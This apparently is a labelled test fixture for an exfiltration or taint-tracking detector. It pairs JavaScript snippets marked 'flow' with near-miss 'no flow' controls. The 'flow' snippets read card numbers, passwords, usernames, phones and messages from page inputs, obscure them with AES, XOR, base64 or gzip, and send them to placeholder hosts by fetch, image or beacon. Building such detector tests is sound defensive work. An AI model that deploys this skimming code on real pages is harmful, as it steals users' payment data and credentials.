//# encrypted-with-aes
// flow: card > ewa.en12.example via fetch
async function seal(text, key) {
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const body = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(text));
  const out = new Uint8Array(iv.length + body.byteLength);
  out.set(iv);
  out.set(new Uint8Array(body), iv.length);
  return out;
}
(async () => {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const box = await seal(document.querySelector('input[autocomplete=cc-number]').value, key);
  await fetch('https://ewa.en12.example/c', { method: 'POST', body: box });
})();

//# near-only-the-nonce
// no flow
// why: the encrypted text stays in the page
(async () => {
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const box = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(document.querySelector('input[autocomplete=cc-number]').value));
  window.__kept = box;
  await fetch('https://nno.en12.example/n', { method: 'POST', body: iv });
})();

//# bytes-to-base64
// flow: username > btb.en12.example via image
const bytes = new TextEncoder().encode(document.querySelector('input[name=username]').value);
let bin = '';
bytes.forEach((b) => { bin += String.fromCharCode(b); });
new Image().src = 'https://btb.en12.example/p?d=' + encodeURIComponent(btoa(bin));

//# xor-of-characters
// flow: password > xoc.en12.example via beacon
function mask(text, key) {
  var out = [];
  for (var i = 0; i < text.length; i++) out.push(text.charCodeAt(i) ^ key.charCodeAt(i % key.length));
  return out.map(function (n) { return ('0' + n.toString(16)).slice(-2); }).join('');
}
navigator.sendBeacon('https://xoc.en12.example/m', mask(document.querySelector('input[type=password]').value, 'k3y'));

//# near-random-of-the-same-length
// no flow
// why: random bytes, as many as the text has
const text = document.querySelector('input[type=password]').value;
const noise = crypto.getRandomValues(new Uint8Array(text.length));
navigator.sendBeacon('https://nrl.en12.example/m', noise);

//# compressed-stream
// flow: message > cst.en12.example via fetch
async function gzip(text) {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'));
  return new Response(stream).arrayBuffer();
}
gzip(document.querySelector('textarea[name=message]').value).then((body) => fetch('https://cst.en12.example/z', { method: 'POST', body }));

//# field-writer
// flow: phone > fwt.en12.example via fetch
class Writer {
  constructor() { this.buf = []; }
  string(tag, s) {
    const b = new TextEncoder().encode(s);
    this.buf.push(tag, b.length, ...b);
    return this;
  }
  finish() { return new Uint8Array(this.buf); }
}
fetch('https://fwt.en12.example/pb', { method: 'POST', body: new Writer().string(10, document.querySelector('input[type=tel]').value).finish() });

//# near-field-writer-of-lengths
// no flow
class Writer {
  constructor() { this.buf = []; }
  size(tag, s) { this.buf.push(tag, s.length); return this; }
  finish() { return new Uint8Array(this.buf); }
}
fetch('https://nfw.en12.example/pb', { method: 'POST', body: new Writer().size(10, document.querySelector('input[type=tel]').value).finish() });
